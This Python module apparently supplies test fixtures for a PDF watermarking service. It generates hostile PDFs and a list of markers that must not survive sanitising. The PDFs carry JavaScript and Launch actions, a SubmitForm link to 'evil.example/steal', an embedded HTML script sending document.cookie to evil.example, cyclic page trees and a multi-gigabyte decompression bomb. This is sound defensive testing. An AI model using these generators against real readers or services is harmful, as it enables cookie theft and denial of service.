"""Generated PDFs for the watermark tests: hostile ones, and decks and papers that look like real ones."""

from __future__ import annotations

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.helpers import make_pdf


def saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def with_scripts() -> bytes:
    """JavaScript everywhere it can hide: on open, in the name tree, on page and field events, in links."""
    pdf = pikepdf.open(io.BytesIO(make_pdf("Scripted", pages=2)))
    js = pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('pwned')")))
    pdf.Root.OpenAction = js
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert('closing')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), js])))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("calc.exe")))
    links = [
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50],
                   A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[60, 0, 110, 50],
                   A=Dictionary(S=Name.URI, URI=String("https://example.org/paper"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[120, 0, 170, 50],
                   A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/steal"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("field"), Rect=[200, 0, 250, 50],
                   AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("this.submitForm('x')")))),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[260, 0, 310, 50],
                   A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]),
                                Next=Dictionary(S=Name.ImportData, F=String("data.fdf")))),
    ]
    page.Annots = Array([pdf.make_indirect(link) for link in links])
    pdf.Root.AcroForm = Dictionary(Fields=Array([page.Annots[3]]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    return saved(pdf)


def with_embedded_html() -> bytes:
    """An HTML file embedded in the name tree and attached to a page."""
    pdf = pikepdf.open(io.BytesIO(make_pdf("Attached", pages=1)))
    html = b"<html><script>fetch('https://evil.example/?'+document.cookie)</script></html>"
    stream = pdf.make_stream(html)
    stream.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("readme.html"), UF=String("readme.html"),
                                        EF=Dictionary(F=stream)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("readme.html"), spec])))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[72, 72, 90, 90], FS=spec))])
    return saved(pdf)


def many_pages(count: int, shared: bytes | None = None) -> bytes:
    """``count`` pages; with ``shared``, every page draws that one content stream."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    resources = pdf.make_indirect(Dictionary(Font=Dictionary(F1=font)))
    common = pdf.make_stream(shared) if shared is not None else None
    for number in range(count):
        content = common if common is not None else pdf.make_stream(
            b"BT /F1 24 Tf 72 700 Td (Page %d) Tj ET" % (number + 1))
        pdf.pages.append(pikepdf.Page(Dictionary(Type=Name.Page, MediaBox=[0, 0, 612, 792], Resources=resources,
                                                 Contents=content)))
    out = io.BytesIO()
    pdf.save(out, compress_streams=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def busy_drawing(kilobytes: int) -> bytes:
    """A content stream of about that many kilobytes that draws many small, different shapes."""
    parts, number = [], 0
    size = 0
    while size < kilobytes * 1024:
        x, y = (number * 37) % 560 + 20, (number * 91) % 740 + 20
        part = b"%.2f %.2f %.2f rg %d %d %d %d re f\n" % ((number % 7) / 7, (number % 5) / 5, (number % 3) / 3,
                                                            x, y, 3 + number % 11, 2 + number % 13)
        parts.append(part)
        size += len(part)
        number += 1
    return b"".join(parts)


def page_tree(depth: int | None = None, cycle: bool = False) -> bytes:
    """Two pages under a chain of ``depth`` page-tree nodes, or with a node that lists its own ancestor."""
    pdf = pikepdf.open(io.BytesIO(make_pdf("Tree", pages=2)))
    pages = list(pdf.Root.Pages.Kids)
    if depth:
        top = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=2, Kids=Array()))
        node = top
        for _ in range(depth):
            child = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=2, Kids=Array(), Parent=node))
            node.Kids.append(child)
            node = child
        for page in pages:
            page.Parent = node
            node.Kids.append(page)
        pdf.Root.Pages = top
    if cycle:
        top = pdf.Root.Pages
        middle = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=2, Kids=Array([top]), Parent=top))
        top.Kids.append(middle)
    out = io.BytesIO()
    # qpdf would repair or refuse these trees on its own when saving through its page API; write them raw.
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, fix_metadata_version=False)
    return out.getvalue()


def deflate_bomb(gigabytes: float) -> bytes:
    """A Flate stream of a few megabytes that inflates to ``gigabytes`` of zeros (its checksum is not
    even right: no reader gets that far)."""
    zeros = bytes(1 << 20)
    compressor = zlib.compressobj(9)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    return first + piece * (int(gigabytes * 1024) - 1) + compressor.flush()


def with_bomb(where: str = "content", gigabytes: float = 3) -> bytes:
    pdf = pikepdf.open(io.BytesIO(make_pdf("Bomb", pages=1)))
    bomb = pdf.make_stream(b"")
    bomb.write(deflate_bomb(gigabytes), filter=Name.FlateDecode)
    page = pdf.pages[0].obj
    if where == "content":
        page.Contents = bomb
    else:
        bomb.Type, bomb.Subtype = Name.XObject, Name.Image
        bomb.Width, bomb.Height, bomb.BitsPerComponent, bomb.ColorSpace = 65536, 49152, 8, Name.DeviceGray
        page.Resources.XObject = Dictionary(Im0=bomb)
        page.Contents = pdf.make_stream(b"q 100 0 0 100 72 72 cm /Im0 Do Q")
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def everything(data: bytes) -> bytes:
    """The file with every stream decoded, to search for what must have gone."""
    pdf = pikepdf.open(io.BytesIO(data))
    out = io.BytesIO()
    pdf.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.all, compress_streams=False,
             object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


# What a script, an action or an attachment leaves in a file: none of it may survive preparation.
DEFUSED_MARKERS = (b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch", b"calc.exe", b"javascript:", b"/SubmitForm",
                   b"/ImportData", b"/XFA", b"/AA", b"app.alert", b"/EmbeddedFiles", b"/FileAttachment", b"<script>")


def hostile_uploads() -> dict[str, tuple[bytes, str]]:
    """Hostile PDFs by name, each with what preparing it must come to: "defused" (kept, without what was
    hostile in it) or the words of its refusal."""
    return {
        "javascript and open action": (with_scripts(), "defused"),
        "embedded html file": (with_embedded_html(), "defused"),
        "2,000 pages": (many_pages(2000), "more than 300 pages"),
        "1,000 pages sharing one content stream": (many_pages(1000, shared=busy_drawing(200)), "more than 300 pages"),
        "deep page tree": (page_tree(depth=3000), "defused"),
        "cyclic page tree": (page_tree(cycle=True), "defused"),
        "decompression bomb in the content": (with_bomb("content", gigabytes=3), "unpacks to more than"),
        "decompression bomb in an image": (with_bomb("image", gigabytes=3), "unpacks to more than"),
    }
